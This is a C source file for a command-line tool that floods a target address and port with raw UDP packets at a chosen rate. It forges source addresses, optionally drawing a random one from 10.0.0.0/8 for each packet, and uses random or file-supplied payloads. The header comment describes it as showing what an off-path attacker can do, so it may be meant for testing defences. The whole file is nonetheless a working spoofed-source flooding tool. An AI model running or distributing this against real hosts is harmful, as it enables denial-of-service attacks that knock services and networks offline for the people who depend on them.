/* Sends UDP datagrams in batches at a given rate, from any source address: what an attacker off the path can do.
 *
 * flood SOURCE DESTINATION PORT RATE SECONDS [FILE]
 *
 * SOURCE is an IPv4 address, or one with ":port", or "any": a new one below 10.0.0.0/8 for each packet.  FILE has the payloads,
 * one a line, sent in turn; without it each is 100 to 299 random bytes.  Prints a line when it has begun, and "packets bytes" at
 * the end, with IP and UDP headers.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

#define BATCH 64
#define LONGEST 1500
#define LINES 131072
#define HEADERS (sizeof(struct iphdr) + sizeof(struct udphdr))

static uint64_t dice = 88172645463325252ull;

static uint32_t roll(void) {
    dice ^= dice << 13;
    dice ^= dice >> 7;
    dice ^= dice << 17;
    return (uint32_t)(dice >> 16);
}

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

static char *lines[LINES];
static size_t lengths[LINES];
static size_t count;

static void load(const char *path) {
    FILE *file = fopen(path, "r");
    size_t room = 0;
    ssize_t got;
    while (file && count < LINES && (got = getline(&lines[count], &room, file)) > 0) {
        lengths[count] = got - (lines[count][got - 1] == '\n');
        count++;
        room = 0;
    }
    if (!count) {
        perror(path);
        exit(2);
    }
}

static size_t fill(char *payload, uint64_t number) {
    if (count) {
        memcpy(payload, lines[number % count], lengths[number % count]);
        return lengths[number % count];
    }
    size_t length = 100 + roll() % 200;
    for (size_t at = 0; at < length; at += 4) {
        uint32_t bits = roll();
        memcpy(payload + at, &bits, 4);
    }
    return length;
}

int main(int argc, char **argv) {
    if (argc < 6) return 2;
    int is_any = !strcmp(argv[1], "any");
    char *colon = strchr(argv[1], ':');
    int port = colon ? atoi(colon + 1) : 0;
    if (colon) *colon = 0;
    in_addr_t source = is_any ? 0 : inet_addr(argv[1]);
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr.s_addr = inet_addr(argv[2])};
    double rate = atof(argv[4]), seconds = atof(argv[5]);
    if (argc > 6) load(argv[6]);
    int sock = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    if (sock < 0) {
        perror("socket");
        return 2;
    }
    static char packets[BATCH][LONGEST];
    struct iovec parts[BATCH];
    struct mmsghdr batch[BATCH];
    uint64_t sent = 0, bytes = 0;
    double began = now();
    while (now() - began < seconds) {
        double due = rate * (now() - began) - sent;
        if (due < (rate < 1000 ? 1 : BATCH)) {
            struct timespec pause = {.tv_nsec = 200000};
            nanosleep(&pause, NULL);
            continue;
        }
        int want = due < BATCH ? due : BATCH;
        for (int i = 0; i < want; i++) {
            struct iphdr *ip = (struct iphdr *)packets[i];
            struct udphdr *udp = (struct udphdr *)(ip + 1);
            size_t length = HEADERS + fill((char *)(udp + 1), sent + i);
            memset(ip, 0, HEADERS);
            ip->version = 4;
            ip->ihl = 5;
            ip->ttl = 64;
            ip->protocol = IPPROTO_UDP;
            ip->saddr = is_any ? htonl(0x0A000000 | (roll() & 0xFFFFFF)) : source;
            ip->daddr = to.sin_addr.s_addr;
            ip->tot_len = htons(length);
            udp->source = htons(port ? port : 1024 + roll() % 60000);
            udp->dest = htons(atoi(argv[3]));
            udp->len = htons(length - sizeof(struct iphdr));
            parts[i] = (struct iovec){packets[i], length};
            batch[i].msg_hdr = (struct msghdr){.msg_name = &to, .msg_namelen = sizeof to, .msg_iov = &parts[i], .msg_iovlen = 1};
        }
        int done = sendmmsg(sock, batch, want, 0);
        if (done < 0 && errno != ENOBUFS && errno != EAGAIN) {
            perror("sendmmsg");
            return 2;
        }
        if (!sent) {
            puts("begun");
            fflush(stdout);
        }
        for (int i = 0; i < done; i++) bytes += parts[i].iov_len;
        sent += done > 0 ? done : 0;
    }
    printf("%llu %llu\n", (unsigned long long)sent, (unsigned long long)bytes);
    return 0;
}
